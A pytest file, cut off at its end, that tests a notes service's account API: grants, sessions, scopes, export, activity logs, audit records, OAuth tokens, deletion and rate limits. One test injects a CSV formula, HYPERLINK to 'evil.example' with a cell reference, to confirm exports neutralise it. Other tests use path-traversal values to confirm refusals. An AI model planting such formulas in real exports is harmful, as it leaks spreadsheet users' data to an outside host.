"""/api over HTTP: what a person sees of their account, may change in it, and how it is limited, counted and deleted."""

import base64
import csv
import io
import logging
import re
import sqlite3
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import closing, suppress
from dataclasses import dataclass
from hashlib import sha256
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit
from zipfile import ZipFile

import pytest
from prometheus_client.parser import text_string_to_metric_families
from starlette.testclient import TestClient

import local_server
from handlers import account
from shared.access.gate import ALL_SCOPES, NOTES_SCOPES, Caller
from shared.access.identity import Identity
from shared.errors import RateLimited, Unauthorized
from shared.notes.tools import TOOLS
from shared.service import Service
from shared.storage.contract import COMMIT_RECORDS_MAX, Records
from shared.storage.local import LocalRecords
from tests.browser import Page, shown
from tests.conftest import ADA, BOB, ORIGIN, Clock, config_in, serve
from tests.shelves import Shelves, local_shelves

ADDRESS = "127.0.0.1"
CALLBACK = "http://127.0.0.1:5000/callback"
DAY = 86_400
VERIFIER = "v" * 43
TABLES = "SELECT name FROM sqlite_master WHERE type = 'table'"
SECRET = "the wharf at midnight"
METRICS_TOKEN = "for whoever watches"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""OWASP, "CSV Injection", the full-width forms included."""
DOCUMENT = account.api.openapi()
OPERATIONS = [(method.upper(), f"/api{path}") for path, methods in DOCUMENT["paths"].items() for method in methods]
READS = [path for method, path in OPERATIONS if method == "GET"]
CHANGES = [(method, path) for method, path in OPERATIONS if method != "GET"]
CHANGES_OF_NOTES = [pair for pair in CHANGES if pair[1].startswith("/api/vault/")]


@dataclass(frozen=True)
class User:
    """Somebody with a token, at a server that is one application."""

    web: TestClient
    token: str

    def ask(self, method: str, path: str, **given: Any) -> Any:
        """The response to a request with the token."""
        headers = {"Authorization": f"Bearer {self.token}", **given.pop("headers", {})}
        return self.web.request(method, path, headers=headers, **given)

    def get(self, path: str, **query: Any) -> Any:
        """What a GET answers that must succeed."""
        answer = self.ask("GET", path, params=query)
        assert answer.status_code == 200, answer.text
        return answer.json()

    def rpc(self, method: str, **params: Any) -> Any:
        return self.ask("POST", "/mcp", json={"jsonrpc": "2.0", "id": 1, "method": method, "params": params})

    def call(self, tool: str, **arguments: Any) -> Any:
        """The structured answer of a tool, be it a refusal."""
        return self.rpc("tools/call", name=tool, arguments=arguments).json()["result"]["structuredContent"]

    def activity(self, **query: Any) -> list[dict[str, Any]]:
        found: list[dict[str, Any]] = self.get("/api/activity", **query)["activity"]
        return found

    def did(self, **query: Any) -> list[tuple[str, str]]:
        """Action and outcome of every record, the oldest first."""
        return [(line["action"], line["outcome"]) for line in reversed(self.activity(**query))]


@dataclass(frozen=True)
class Site:
    """A service behind one application, as it is served."""

    vaults: Service
    web: TestClient
    shelves: Shelves

    def user(self, user_id: str = ADA, **claims: Any) -> User:
        """Somebody with a token that no grant stands behind."""
        return User(self.web, self.vaults.tokens.create_jwt(user_id, **claims))

    def connected(self, user_id: str = ADA, client: str = "editor", folder: str = "", scopes: Any = ALL_SCOPES) -> User:
        """Somebody whose client has a grant."""
        grant = self.vaults.grants.start(user_id, kind="oauth", client=client, scopes=scopes, folder=folder)
        token = self.vaults.tokens.create_jwt(user_id, scope=" ".join(scopes), client=client, grant=grant.id)
        return User(self.web, token)


Open = Callable[..., Site]
on_a_laptop = pytest.mark.parametrize("shelves", ["local"], indirect=True)
"""For what no backend has a part in."""


@pytest.fixture
def opened(shelves: Shelves, tmp_path: Path, clock: Clock, monkeypatch: pytest.MonkeyPatch) -> Open:
    """Opens a site with settings of its own, on every backend."""

    def site(**settings: Any) -> Site:
        mode = "local" if isinstance(shelves.records, LocalRecords) else "lambda"
        vaults = Service(config_in(tmp_path, mode=mode, **settings), shelves.records, shelves.files, clock=clock)
        serve(vaults, monkeypatch)
        web = TestClient(local_server.app(), base_url=ORIGIN, client=(ADDRESS, 50_000), follow_redirects=False)
        return Site(vaults, web, shelves)

    return site


@pytest.fixture
def site(opened: Open) -> Site:
    return opened()


# Who they are


def test_me_says_who_it_is_what_the_vault_holds_and_what_is_left(site: Site):
    site.vaults.sign_in(Identity(ADA, "Ada"), "editor", ADDRESS)
    ada = site.connected(scopes=NOTES_SCOPES)
    me = ada.get("/api/me")
    assert (me["user_id"], me["name"], me["created_at"]) == (ADA, "Ada", 1_800_000_000)
    assert me["scopes"] == list(NOTES_SCOPES)
    assert me["grant"] == site.vaults.grants.all(ADA)[0].id


def test_usage_follows_the_notes_and_the_calls(site: Site):
    ada = site.user()
    before = ada.get("/api/me")
    ada.call("write_note", path="Moss", body="é")
    after = ada.get("/api/me")
    assert (before["vault"]["notes"], before["vault"]["bytes"]) == (0, 0)
    assert (after["vault"]["notes"], after["vault"]["bytes"]) == (1, 2)
    assert (after["vault"]["notes_max"], after["vault"]["bytes_max"]) == (100_000, 1_073_741_824)
    assert before["calls"]["remaining"] - after["calls"]["remaining"] == 2
    assert after["calls"] == {"limit_per_minute": 1_000_000, "remaining": 999_997, "resets_at": 1_800_000_060}


# Connections


def test_a_connection_is_listed_without_its_secrets(site: Site):
    site.connected(client="editor", folder="Work", scopes=("notes:read",))
    ada = site.connected(client="page")
    editor, page = sorted(ada.get("/api/grants")["grants"], key=lambda grant: grant["client"])
    assert (editor["client"], editor["folder"], editor["scopes"]) == ("editor", "Work", ["notes:read"])
    assert (editor["is_this"], page["is_this"]) == (False, True)
    known = "id kind client client_id scopes folder created_at seen_at expires_at address is_this"
    assert set(editor) == set(known.split())


def test_a_connection_can_be_given_less_from_its_next_request_on(site: Site):
    page, editor = site.connected(client="page"), site.connected(client="editor")
    editor.call("write_note", path="Work/Plan", body="moss")
    editor.call("write_note", path="Diary", body=SECRET)
    grant = editor.get("/api/me")["grant"]
    changed = page.ask("PATCH", f"/api/grants/{grant}", json={"scopes": ["notes:read"], "folder": "work/"})
    assert (changed.status_code, changed.json()["scopes"]) == (200, ["notes:read"])
    assert editor.call("write_note", path="Work/New", body="x")["error"]["code"] == "forbidden"
    assert [note["path"] for note in editor.call("list_notes")["notes"]] == ["Work/Plan.md"]
    assert editor.call("read_note", path="Diary")["error"]["code"] == "forbidden"
    assert editor.call("search_notes", query="wharf")["notes"] == []


@on_a_laptop
@pytest.mark.parametrize(
    "body",
    [
        {},
        {"scopes": []},
        {"scopes": ["notes:all"]},
        {"scopes": "notes:read"},
        {"scopes": ["notes:read"], "folder": "../x"},
        {"scopes": ["notes:read"], "folder": "x/../.."},
        {"scopes": ["notes:read"], "user_id": BOB},
    ],
)
def test_a_connection_is_not_changed_to_what_there_is_not(site: Site, body: Any):
    ada = site.connected()
    before = ada.get("/api/grants")
    answer = ada.ask("PATCH", f"/api/grants/{before['grants'][0]['id']}", json=body)
    assert (answer.status_code, answer.json()["error"]) == (400, "invalid")
    assert ada.get("/api/grants") == before


def test_a_connection_is_not_given_more_than_who_asks_for_it(site: Site):
    editor = site.connected(client="editor", scopes=("notes:read",))
    limited = site.connected(client="page", scopes=("notes:read", "account"))
    grant = editor.get("/api/me")["grant"]
    answer = limited.ask("PATCH", f"/api/grants/{grant}", json={"scopes": ["notes:write"]})
    assert (answer.status_code, answer.json()["scope"]) == (403, "notes:write")
    assert editor.call("write_note", path="x", body="x")["error"]["code"] == "forbidden"


def test_an_ended_connection_is_refused_at_its_next_request_with_its_sessions(site: Site):
    page, editor = site.connected(client="page"), site.connected(client="editor")
    facts = {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "c", "version": "1"}}
    editor.rpc("initialize", **facts)
    grant = editor.get("/api/me")["grant"]
    assert len(page.get("/api/sessions")["sessions"]) == 1
    assert page.ask("DELETE", f"/api/grants/{grant}").json() == {"ended": True}
    assert editor.rpc("tools/list").status_code == 401
    assert page.get("/api/sessions")["sessions"] == []
    assert page.ask("DELETE", f"/api/grants/{grant}").status_code == 404


def test_a_session_is_listed_and_ended(site: Site, clock: Clock):
    ada = site.connected()
    facts = {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {"name": "Editor", "version": "1"}}
    header = ada.rpc("initialize", **facts).headers["Mcp-Session-Id"]
    session = ada.get("/api/sessions")["sessions"][0]
    assert (session["client"], session["protocol_version"]) == ("Editor", "2025-11-25")
    assert session["started_at"] == session["seen_at"] == clock.now
    assert header not in str(session), "what is listed resumes nothing"
    assert ada.ask("DELETE", f"/api/sessions/{session['id']}").json() == {"ended": True}
    again = ada.ask("POST", "/mcp", json={}, headers={"Mcp-Session-Id": header})
    assert again.status_code == 404
    assert ada.ask("DELETE", f"/api/sessions/{session['id']}").status_code == 404


# What a token may not do


def filled(path: str) -> str:
    return path.format(grant_id="g", session_id="s", job_id="j")


@on_a_laptop
@pytest.mark.parametrize(("method", "path"), OPERATIONS)
def test_a_connection_limited_to_a_folder_may_not_look_at_the_account(site: Site, method: str, path: str):
    limited = site.connected(folder="Work")
    answer = limited.ask(method, filled(path), json={"scopes": ["notes:read"]})
    assert (answer.status_code, answer.json()["error"]) == (403, "forbidden")


@on_a_laptop
@pytest.mark.parametrize("path", READS)
@pytest.mark.parametrize("scopes", [("notes:read",), NOTES_SCOPES])
def test_a_token_for_the_notes_may_read_the_account(site: Site, path: str, scopes: tuple[str, ...]):
    answer = site.connected(scopes=scopes).ask("GET", filled(path))
    assert answer.status_code == (200 if filled(path) == path else 404)


@on_a_laptop
@pytest.mark.parametrize(("method", "path"), [pair for pair in CHANGES if pair not in CHANGES_OF_NOTES])
def test_a_token_for_the_notes_may_not_change_the_account(site: Site, method: str, path: str):
    ada = site.connected(scopes=NOTES_SCOPES)
    query = f"?confirm={ADA}" if path == "/api/me" else ""
    answer = ada.ask(method, filled(path) + query, json={"scopes": ["notes:read"]})
    assert (answer.status_code, answer.json()["scope"]) == (403, "account")
    assert ada.get("/api/me")["user_id"] == ADA


@on_a_laptop
@pytest.mark.parametrize(("method", "path"), CHANGES_OF_NOTES)
def test_a_token_that_may_only_read_takes_no_notes_in(site: Site, method: str, path: str):
    answer = site.connected(scopes=("notes:read",)).ask(method, filled(path))
    assert (answer.status_code, answer.json()["scope"]) == (403, "notes:write")


@on_a_laptop
@pytest.mark.parametrize(("method", "path"), OPERATIONS)
def test_without_a_token_every_route_says_where_one_is_to_be_had(site: Site, method: str, path: str):
    answer = site.web.request(method, filled(path))
    assert answer.status_code == 401
    assert "/.well-known/oauth-protected-resource/mcp" in answer.headers["WWW-Authenticate"]
    assert "error=" not in answer.headers["WWW-Authenticate"]


@on_a_laptop
@pytest.mark.parametrize("path", READS)
def test_no_answer_of_the_account_is_kept_by_a_cache(site: Site, path: str):
    headers = site.user().ask("GET", path).headers
    assert (headers["Cache-Control"], headers["X-Content-Type-Options"]) == ("no-store", "nosniff")


# Export


def test_an_export_is_a_zip_of_the_notes_as_they_are(site: Site):
    ada = site.user()
    notes = {"Moss.md": "# Moss\r\n", "a/é ☀.md": "---\nx: 1\n---\nSonne\n", "a/deep/Empty.md": ""}
    for path, text in notes.items():
        ada.call("write_note", path=path, body=text)
    site.user(BOB).call("write_note", path="Bobs", body=SECRET)
    answer = ada.ask("GET", "/api/vault/export")
    assert answer.headers["Content-Type"] == "application/zip"
    with ZipFile(io.BytesIO(answer.content)) as packed:
        assert {name: packed.read(name).decode() for name in packed.namelist()} == notes
    assert ada.did(action="vault.export") == [("vault.export", "ok")]


# Activity


@pytest.fixture
def busy(site: Site, clock: Clock) -> User:
    """Somebody who has done four things, a minute apart, with two clients."""
    editor, script = site.connected(client="editor"), site.connected(client="script")
    steps = (
        (editor, "write_note", "ok"),
        (script, "list_notes", "ok"),
        (script, "write_note", ""),
        (editor, "get_tags", "ok"),
    )
    for user, tool, outcome in steps:
        arguments = {"path": "Moss", "body": outcome} if tool == "write_note" else {}
        user.call(tool, **arguments)
        clock.forward(60)
    return site.user()


def test_activity_is_newest_first(busy: User):
    lines = busy.activity()
    assert [line["action"] for line in lines] == ["get_tags", "write_note", "list_notes", "write_note"]
    assert [line["at"] for line in lines] == [1_800_000_000_000 + minute * 60_000 for minute in (3, 2, 1, 0)]


@pytest.mark.parametrize(
    ("asked", "found"),
    [
        ({"client": "script"}, ["write_note", "list_notes"]),
        ({"client": "nobody"}, []),
        ({"action": "write_note"}, ["write_note", "write_note"]),
        ({"outcome": "conflict"}, ["write_note"]),
        ({"outcome": "ok"}, ["get_tags", "list_notes", "write_note"]),
        ({"since": 1_800_000_120}, ["get_tags", "write_note"]),
        ({"until": 1_800_000_060}, ["list_notes", "write_note"]),
        ({"since": 1_800_000_060, "until": 1_800_000_120}, ["write_note", "list_notes"]),
        ({"client": "editor", "action": "write_note", "outcome": "ok"}, ["write_note"]),
        ({"limit": 2}, ["get_tags", "write_note"]),
    ],
)
def test_activity_is_filtered(busy: User, asked: dict[str, Any], found: list[str]):
    assert [line["action"] for line in busy.activity(**asked)] == found


@pytest.mark.parametrize("limit", [1, 2, 3, 4, 5])
@pytest.mark.parametrize("asked", [{}, {"client": "script"}])
def test_activity_comes_in_pages_that_neither_skip_nor_repeat(busy: User, limit: int, asked: dict[str, str]):
    seen, cursor, pages = [], "", 0
    while cursor is not None:
        page = busy.get("/api/activity", limit=limit, cursor=cursor, **asked)
        seen += page["activity"]
        cursor, pages = page["next_cursor"], pages + 1
        assert pages < 10
    assert seen == busy.activity(**asked)


@on_a_laptop
@pytest.mark.parametrize("asked", [{"limit": 0}, {"limit": 1001}, {"since": -1}, {"format": "xml"}, {"until": "x"}])
def test_activity_says_what_is_not_as_it_should_be(site: Site, asked: dict[str, Any]):
    answer = site.user().ask("GET", "/api/activity", params=asked)
    assert (answer.status_code, answer.json()["error"]) == (400, "invalid")
    assert next(iter(asked)) in answer.json()["message"]


def test_activity_comes_as_a_table_too(busy: User):
    answer = busy.ask("GET", "/api/activity", params={"format": "csv", "client": "script"})
    assert answer.headers["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    lines = busy.activity(client="script")
    assert rows == [{name: str(value) for name, value in line.items()} for line in lines]


@on_a_laptop
@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20"])
def test_a_table_holds_nothing_that_a_spreadsheet_would_run(site: Site, start: str):
    formula = f'{start}HYPERLINK("http://evil.example?"&A1)'
    ada = site.connected(client=formula)
    ada.call("read_note", path=formula)
    text = ada.ask("GET", "/api/activity", params={"format": "csv"}).text
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert any("HYPERLINK" in cell for cell in cells)
    assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == []


# Exactly one record of everything


def one_more(site: Site, user_id: str, act: Callable[[], Any]) -> tuple[str, str]:
    """The one record that something leaves behind."""
    before = {line.id for line in site.vaults.audit.lines(user_id, lambda line: True)}
    act()
    new = [line for line in site.vaults.audit.lines(user_id, lambda line: True) if line.id not in before]
    assert len(new) == 1, new
    return new[0].action, new[0].outcome


GOOD: dict[str, dict[str, Any]] = {
    "list_notes": {},
    "read_note": {"path": "Moss"},
    "write_note": {"path": "Moss", "body": "sun", "if_version": 2},
    "edit_note": {"path": "Moss", "do": "append", "text": "sun"},
    "move_note": {"path": "Moss", "to": "Bryum"},
    "delete_note": {"path": "Moss"},
    "restore_note": {"path": "Moss", "version": 1},
    "undo_changes": {"changes": [2]},
    "search_notes": {"query": "moss"},
    "get_backlinks": {"path": "Moss"},
    "get_tags": {},
    "get_history": {"path": "Moss"},
}
"""A call of each tool that succeeds once, where Moss is at version 2."""


@pytest.mark.parametrize("tool", TOOLS)
def test_a_call_is_one_record_however_it_ends(site: Site, tool: str):
    ada, other = site.connected(), site.connected(client="other", scopes=("account",))
    vault = site.vaults.vault(Caller(ADA))
    vault.write("Moss", "shade")
    vault.write("Moss", SECRET, if_version=1)
    good = GOOD[tool]
    assert one_more(site, ADA, lambda: ada.call(tool, **good)) == (tool, "ok")
    assert one_more(site, ADA, lambda: ada.call(tool, **good, colour="red")) == (tool, "invalid")
    assert one_more(site, ADA, lambda: other.call(tool, **good)) == (tool, "forbidden")
    if "path" in good:
        assert one_more(site, ADA, lambda: ada.call(tool, **{**good, "path": "../Moss"})) == (tool, "invalid")


def test_what_happens_to_a_connection_is_one_record_each(site: Site):
    ada, editor = site.connected(client="page"), site.connected(client="editor")
    grant = editor.get("/api/me")["grant"]
    where = f"/api/grants/{grant}"
    change = lambda: ada.ask("PATCH", where, json={"scopes": ["notes:read"]})  # noqa: E731
    assert one_more(site, ADA, change) == ("grant.change", "ok")
    assert one_more(site, ADA, lambda: ada.ask("DELETE", where)) == ("grant.end", "ok")
    create, again = "/api/auth/create-token", "/api/auth/refresh-token"
    named: list[str] = []
    make = lambda: named.append(ada.ask("POST", create, json={"name": "script"}).json()["token"])  # noqa: E731
    assert one_more(site, ADA, make) == ("token.create", "ok")
    script = User(site.web, named[0])
    assert one_more(site, ADA, lambda: script.ask("POST", again)) == ("token.refresh", "ok")
    assert one_more(site, ADA, lambda: script.ask("POST", "/api/auth/sign-out")) == ("grant.end", "ok")


def bad_verifier(flow: "Flow", code: str) -> None:
    form = {"grant_type": "authorization_code", "redirect_uri": CALLBACK, "code_verifier": "w" * 43}
    assert flow.token(code=code, **form).status_code == 400


def bad_redirect(flow: "Flow", code: str) -> None:
    form = {"grant_type": "authorization_code", "code_verifier": VERIFIER}
    assert flow.token(code=code, **form, redirect_uri="http://127.0.0.1:1/other").status_code == 400


REFUSALS: dict[str, Callable[[User, "Site"], Any]] = {
    "a token for more than its maker may": lambda user, site: user.ask(
        "POST", "/api/auth/create-token", json={"scopes": ["account"]}
    ),
    "a token for another user": lambda user, site: user.ask("POST", "/api/auth/create-token", json={"user_id": BOB}),
    "a token for too long": lambda user, site: user.ask(
        "POST", "/api/auth/create-token", json={"expires_in_days": 10_000}
    ),
    "changing a connection without the scope": lambda user, site: user.ask(
        "PATCH", "/api/grants/g", json={"scopes": ["notes:read"]}
    ),
    "ending a connection without the scope": lambda user, site: user.ask("DELETE", "/api/grants/g"),
    "deleting the account without the scope": lambda user, site: user.ask("DELETE", f"/api/me?confirm={ADA}"),
    "looking at the account from a folder": lambda user, site: site.connected(folder="Work").ask("GET", "/api/me"),
}


@on_a_laptop
@pytest.mark.parametrize("name", REFUSALS)
def test_a_refusal_is_one_record(site: Site, name: str):
    limited = site.connected(scopes=NOTES_SCOPES)
    _, outcome = one_more(site, ADA, lambda: REFUSALS[name](limited, site))
    assert outcome != "ok"


# Sign-ins, by OAuth


@dataclass
class Flow:
    """A client that signs somebody in where there is no provider: on a laptop."""

    site: Site

    def __post_init__(self) -> None:
        facts = {"redirect_uris": [CALLBACK], "client_name": "editor"}
        self.client: str = self.site.web.post("/register", json=facts).json()["client_id"]

    def page(self) -> Page:
        digest = base64.urlsafe_b64encode(sha256(VERIFIER.encode()).digest()).rstrip(b"=").decode()
        asked = {"response_type": "code", "client_id": self.client, "redirect_uri": CALLBACK, "state": "s"}
        asked |= {"code_challenge": digest, "code_challenge_method": "S256"}
        return shown(self.site.web.get("/authorize", params=asked), CALLBACK)

    def decide(self, decision: str = "allow") -> dict[str, list[str]]:
        page = self.page()
        answer = self.site.web.post(page.action, data=page.filled(decision, None, None))
        return parse_qs(urlsplit(answer.headers["Location"]).query)

    def code(self) -> str:
        return self.decide()["code"][0]

    def token(self, **form: str) -> Any:
        return self.site.web.post("/token", data={"client_id": self.client, **form})

    def redeem(self, code: str) -> Any:
        form = {"grant_type": "authorization_code", "redirect_uri": CALLBACK, "code_verifier": VERIFIER}
        return self.token(code=code, **form)

    def refresh(self, token: str) -> Any:
        return self.token(grant_type="refresh_token", refresh_token=token)


@pytest.fixture
def flow(tmp_path: Path, clock: Clock, monkeypatch: pytest.MonkeyPatch) -> Iterator[Flow]:
    shelves = local_shelves(tmp_path, clock)
    vaults = Service(config_in(tmp_path), shelves.records, shelves.files, clock=clock)
    serve(vaults, monkeypatch)
    with TestClient(local_server.app(), base_url=ORIGIN, client=(ADDRESS, 50_000), follow_redirects=False) as web:
        yield Flow(Site(vaults, web, shelves))


def test_a_sign_in_and_each_of_its_tokens_is_one_record(flow: Flow):
    site, user = flow.site, "local"
    codes: list[str] = []
    assert one_more(site, user, lambda: codes.append(flow.code())) == ("sign_in", "ok")
    tokens: list[Any] = []
    assert one_more(site, user, lambda: tokens.append(flow.redeem(codes[0]).json())) == ("token.code", "ok")
    first = tokens[0]["refresh_token"]
    assert one_more(site, user, lambda: tokens.append(flow.refresh(first).json())) == ("token.refresh", "ok")
    revoked = {"client_id": flow.client, "token": tokens[1]["refresh_token"]}
    assert one_more(site, user, lambda: flow.site.web.post("/revoke", data=revoked)) == ("token.revoke", "ok")


def test_a_refused_token_is_one_record(flow: Flow):
    site, code = flow.site, flow.code()
    tokens = flow.redeem(code).json()
    flow.refresh(tokens["refresh_token"])
    assert one_more(site, "local", lambda: flow.refresh(tokens["refresh_token"]))[1] != "ok"
    flow.redeem(again := flow.code())
    assert one_more(site, "local", lambda: flow.redeem(again))[1] != "ok"


@pytest.mark.parametrize("wrong", [bad_verifier, bad_redirect])
def test_a_code_that_is_not_redeemed_is_one_record(flow: Flow, wrong: Callable[[Flow, str], None]):
    code = flow.code()
    assert one_more(flow.site, "local", lambda: wrong(flow, code))[1] != "ok"


def test_no_record_and_no_line_of_the_log_holds_a_secret(flow: Flow, caplog: pytest.LogCaptureFixture):
    caplog.set_level(logging.DEBUG)
    page, site = flow.page(), flow.site
    answer = site.web.post(page.action, data=page.filled("allow", None, None))
    code = parse_qs(urlsplit(answer.headers["Location"]).query)["code"][0]
    tokens = flow.redeem(code).json()
    renewed = flow.refresh(tokens["refresh_token"]).json()
    user = User(site.web, renewed["access_token"])
    session = user.rpc("initialize", protocolVersion="2025-11-25", capabilities={}).headers
    personal = site.user("local").ask("POST", "/api/auth/create-token", json={"name": "script"}).json()
    user.call("write_note", path="Moss", body=SECRET)
    user.call("write_note", path="Moss", body=f"{SECRET} again")
    user.call("search_notes", query=SECRET)
    user.call("read_note", path="Moss", section=SECRET)
    flow.redeem(code)
    flow.refresh(tokens["refresh_token"])
    secrets = [
        SECRET,
        code,
        tokens["access_token"],
        tokens["refresh_token"],
        renewed["access_token"],
        personal["token"],
    ]
    secrets += [*page.values("csrf"), *page.values("sign_in"), *site.web.cookies.values(), VERIFIER]
    secrets += [value for name, value in session.items() if name == "mcp-session-id"]
    secrets += [part for token in secrets for part in token.split(".") if len(part) >= 32]
    logged = "\n".join(str(vars(record)) for record in caplog.records if record.name.startswith("notes_vault"))
    recorded = str(list(site.shelves.records.under("local", "activity#", limit=1000)))
    assert logged and recorded
    assert [secret for secret in secrets if secret in logged or secret in recorded] == []


# Deletion


def leftovers(site: Site, user_id: str) -> list[str]:
    """Whatever on the shelves or on this machine is still of a user's."""
    records = [record.key for record in site.shelves.records.under(user_id, "", limit=1000)]
    records += list(site.shelves.files.under(user_id))
    records += [record.key for record in site.shelves.records.under("users#", "") if record.key == user_id]
    machine = site.vaults.config.database_path.parent
    return [*records, *(str(place.relative_to(machine)) for place in machine.rglob(f"{user_id}*"))]


def settled(site: Site, notes: int = 1) -> User:
    site.vaults.sign_in(Identity(ADA, "Ada"), "page", ADDRESS)
    ada = site.connected(client="page")
    for number in range(notes):
        site.vaults.vault(Caller(ADA)).write(f"n/{number}", f"moss {number}")
    ada.call("search_notes", query="moss")
    ada.call("delete_note", path="n/0")
    ada.rpc("initialize", protocolVersion="2025-11-25", capabilities={}, clientInfo={"name": "c", "version": "1"})
    return ada


@on_a_laptop
@pytest.mark.parametrize("query", ["", "?confirm=", f"?confirm={BOB}", "?confirm=yes", f"?confirm={ADA.upper()}"])
def test_an_account_is_not_deleted_without_its_own_id(site: Site, query: str):
    ada = site.connected()
    ada.call("write_note", path="Moss", body="moss")
    answer = ada.ask("DELETE", f"/api/me{query}")
    assert (answer.status_code, answer.json()["error"]) == (409, "conflict")
    assert (answer.json()["confirm"], answer.json()["export"]) == (ADA, "/api/vault/export")
    assert ada.call("read_note", path="Moss")["text"] == "moss"


def test_of_a_deleted_account_nothing_is_left(site: Site):
    ada, bob = settled(site, notes=COMMIT_RECORDS_MAX // 2), site.user(BOB)
    bob.call("write_note", path="Moss", body="moss")
    before = leftovers(site, BOB)
    assert ada.ask("DELETE", f"/api/me?confirm={ADA}").json() == {"deleted": True}
    assert leftovers(site, ADA) == []
    assert leftovers(site, BOB) == before
    assert bob.call("read_note", path="Moss")["text"] == "moss"


def test_no_token_of_a_deleted_account_is_good(site: Site, clock: Clock):
    ada, plain = settled(site), site.user()
    named = ada.ask("POST", "/api/auth/create-token", json={"name": "script"}).json()["token"]
    ada.ask("DELETE", f"/api/me?confirm={ADA}")
    for token in (ada.token, plain.token, named):
        assert User(site.web, token).rpc("tools/list").status_code == 401
        assert User(site.web, token).ask("GET", "/api/me").status_code == 401
    assert leftovers(site, ADA) == []
    clock.forward(1)
    site.vaults.sign_in(Identity(ADA, "Ada"), "page", ADDRESS)
    again = site.connected()
    assert [note["path"] for note in again.call("list_notes")["notes"]] == ["Welcome.md"], "a new account begins anew"


def test_of_a_deleted_account_no_record_of_nobodys_names_it(flow: Flow):
    tokens = flow.redeem(flow.code()).json()
    User(flow.site.web, tokens["access_token"]).call("write_note", path="Moss", body="moss")
    assert flow.site.user("local").ask("DELETE", "/api/me?confirm=local").status_code == 200
    with closing(sqlite3.connect(flow.site.vaults.config.database_path)) as database:
        rows = [
            row
            for (table,) in database.execute(TABLES).fetchall()
            for row in database.execute(f"SELECT * FROM {table}")
        ]
    naming = [row for row in rows if any(re.search(r"\blocal\b", str(cell)) for cell in row)]
    kept = ("ended#", "code#")  # for as long as a token could live: what ended it, and a used code that may be replayed
    assert [row for row in naming if not row[0].startswith(kept)] == []


def test_a_code_of_a_deleted_account_is_no_good(flow: Flow):
    code = flow.code()
    assert flow.site.user("local").ask("DELETE", "/api/me?confirm=local").status_code == 200
    answer = flow.redeem(code)
    assert (answer.status_code, answer.json().get("error")) == (400, "invalid_grant")
    assert leftovers(flow.site, "local") == []


# Limits


def spent(user: User, calls: int) -> None:
    for _ in range(calls):
        assert user.rpc("tools/list").status_code == 200


def refused(user: User, path: str = "") -> Any:
    answer = user.ask("GET", path) if path else user.rpc("tools/call", name="list_notes", arguments={})
    assert answer.status_code == 429, answer.text
    return answer


def test_a_user_may_make_a_third_of_a_minutes_calls_in_ten_seconds(opened: Open, clock: Clock):
    ada = opened(rate_limit_per_minute=30).user()
    clock.forward(3)
    spent(ada, 10)
    assert refused(ada).headers["Retry-After"] == "7"
    clock.forward(6)
    refused(ada)
    clock.forward(1)
    spent(ada, 10)


def test_a_user_may_make_so_many_calls_in_a_minute(opened: Open, clock: Clock):
    ada = opened(rate_limit_per_minute=30).user()
    for _ in range(3):
        spent(ada, 10)
        clock.forward(10)
    assert refused(ada).headers["Retry-After"] == "30"
    clock.forward(29)
    refused(ada)
    clock.forward(1)
    spent(ada, 10)


def test_one_connection_leaves_calls_to_the_others(opened: Open, clock: Clock):
    site = opened(rate_limit_per_minute=30)
    editor, script = site.connected(client="editor"), site.connected(client="script")
    spent(editor, 8)
    assert "this connection may make 8 in 10 seconds" in refused(editor).text
    spent(script, 1)
    assert "you may make 10 in 10 seconds" in refused(script).text, "what is refused was asked for, and counts"
    clock.forward(10)
    spent(editor, 8)
    clock.forward(10)
    spent(editor, 7)
    refused(editor)


def test_another_user_is_not_affected(opened: Open):
    site = opened(rate_limit_per_minute=3)
    ada, bob = site.user(), site.user(BOB)
    spent(ada, 1)
    refused(ada)
    spent(bob, 1)


@on_a_laptop
@pytest.mark.parametrize("path", ["", "/api/me", "/api/activity", "/api/vault/export"])
def test_who_is_too_fast_is_told_how_long_to_wait(opened: Open, clock: Clock, path: str):
    ada = opened(rate_limit_per_minute=30).user()
    clock.forward(4)
    spent(ada, 10)
    answer = refused(ada, path)
    assert answer.headers["Retry-After"] == "6"
    assert answer.headers["RateLimit"] == '"calls";r=0;t=6'
    assert answer.headers["RateLimit-Policy"] == '"calls";q=10;w=10'
    if path:
        facts = {"limit": 10, "window_seconds": 10, "retry_after_seconds": 6}
        assert {**answer.json(), "message": ""} == {"error": "rate_limited", "message": "", **facts}


def test_a_tool_that_is_called_too_often_answers_what_a_model_can_read(opened: Open):
    ada = opened(rate_limit_per_minute=3).user()
    spent(ada, 1)
    result = refused(ada).json()["result"]
    error = result["structuredContent"]["error"]
    assert result["isError"] is True
    assert result["content"] == [{"type": "text", "text": error["message"]}]
    assert (error["code"], error["limit"], error["retry_after_seconds"]) == ("rate_limited", 1, 10)
    assert "error" in ada.rpc("tools/list").json()


@pytest.mark.parametrize("addresses", [1, 2, 30])
def test_a_connection_is_not_faster_from_several_addresses(opened: Open, clock: Clock, addresses: int):
    site = opened(rate_limit_per_minute=30)
    token, admitted = site.connected().token, 0
    with pytest.raises(RateLimited):
        for call in range(30):
            site.vaults.gate.admit(token, address=f"192.0.2.{call % addresses}")
            admitted += 1
    assert admitted == 8


def test_a_connection_that_rested_is_not_faster_for_it(opened: Open, clock: Clock):
    site = opened(rate_limit_per_minute=30)
    ada = site.connected()
    clock.forward(3_600)
    for _ in range(9):
        ada.rpc("tools/list")
    refused(ada)


# What admission costs


class Counting:
    """Records that count how often they are asked."""

    def __init__(self, records: Records) -> None:
        self._records = records
        self.asked: Counter[str] = Counter()

    def __getattr__(self, name: str) -> Any:
        self.asked[name] += 1
        return getattr(self._records, name)

    @property
    def reads(self) -> int:
        return self.asked["get"] + self.asked["under"]

    @property
    def writes(self) -> int:
        return self.asked["commit"] + self.asked["add"]


ADMITTED: dict[str, Callable[[Service, Clock], str]] = {
    "no grant": lambda vaults, clock: vaults.tokens.create_jwt(ADA),
